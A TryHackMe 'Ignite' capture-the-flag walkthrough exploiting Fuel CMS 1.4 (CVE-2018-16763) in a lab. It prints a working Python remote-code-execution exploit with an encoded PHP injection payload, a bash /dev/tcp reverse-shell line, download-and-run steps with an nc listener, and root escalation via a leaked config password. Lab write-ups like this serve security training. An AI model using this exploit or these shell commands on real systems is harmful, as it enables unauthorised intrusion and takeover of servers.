Technology with Security

Ignite - TryHackMe Walkthrough

12 July 2020


To exploit a mis-configured webserver running CMS and then gain the root access.


When visited the default webpage that is running on the host, shows the Fuel CMS (Ver 1.4) was installed but not configured. The page has nextsteps to do by the system administrator and at the end of the page it has the default credentials to login, admin:admin.

Performed a scan on the host with nmap :

$ nmap -p- -A
Nmap scan report for
Host is up (0.20s latency).
Not shown: 65534 closed ports
80/tcp open  http    Apache httpd 2.4.18 ((Ubuntu))
| http-robots.txt: 1 disallowed entry
|_http-server-header: Apache/2.4.18 (Ubuntu)
|_http-title: Welcome to FUEL CMS

The Fuel CMS 1.4 has a known vulnerability CVE-2018-16763.

Getting a reverse shell

Using exploit from exploit database, tweaked a bit and created a file
The exploit will prompt for a command to execute on the victim.

# Exploit Title: fuelCMS 1.4.1 - Remote Code Execution
# Date: 2019-07-19
# Exploit Author: 0xd0ff9
# Vendor Homepage:
# Software Link:
# Version: <= 1.4.1
# Tested on: Ubuntu - Apache2 - php5
# CVE : CVE-2018-16763

import requests
import urllib

url = ""
def find_nth_overlapping(haystack, needle, n):
    start = haystack.find(needle)
    while start >= 0 and n > 1:
        start = haystack.find(needle, start+1)
        n -= 1
    return start

while 1:
    xxxx = input('cmd:')url = url+"/fuel/pages/select/?filter=%27%2b%70%69%28%70%72%69%6e%74%28%24%61%3d%27%73%79%73%74%65%6d%27%29%29%2b%24%61%28%27"+urllib.parse.quote(xxxx)+"%27%29%2b%27"
    r = requests.get(url)

    html = "<!DOCTYPE html>"
    htmlcharset = r.text.find(html)

    begin = r.text[0:20]
    dup = find_nth_overlapping(r.text,begin,2)


Test the exploit byrunning a sample remote command, like id, pwd etc.

$ python3

From above we can see the exploit is working, so we extend this to get a reverse shell to do more.

  • Created a bash script file with revere shell code,
bash -i >& /dev/tcp/ 0>&1
  • Open a simple http server using python -m http.server from the same location, so the victim can download the file.
  • Open a nc listener on port 4444; nc -nlvp 4444
  • Run the exploit again, but this time the command is to download the reverse shell code.
$ python3
  • Pass the cmd to execute the
$ python3
  • Thiswill establish a reverse shell connection on nc listener and with the user www-data.
  • The user flag can be accessible from /home/www-data/flag.txt which has a value: 6470e394cb---1682cc8585059b

Escalating the privileges to root

  • The user www-data is a normal user and we need to escalate our privileges to root.
  • Using the, lets see if there are any mis-configurations on the server.
  • Download the utility to /tmp of the victim and execute it.• Once the report is generated, go through it and under the section, “Finding pwd or passw variables”, we can see there is configuration file, fuel/application/config/database.php with password mememe. The same file we can saw on the webpage during Recon also with the instructions to install the database for Fuel CMS.
  • Bu going through the configuration file, we can see the above password is for the root id.
  • Switch to root user using the above password and accessthe root flag, /root/root.txt; which has the valueb9bbcb33——–759c4e844862482d.

Image Credits: TryHackMeand the room creator.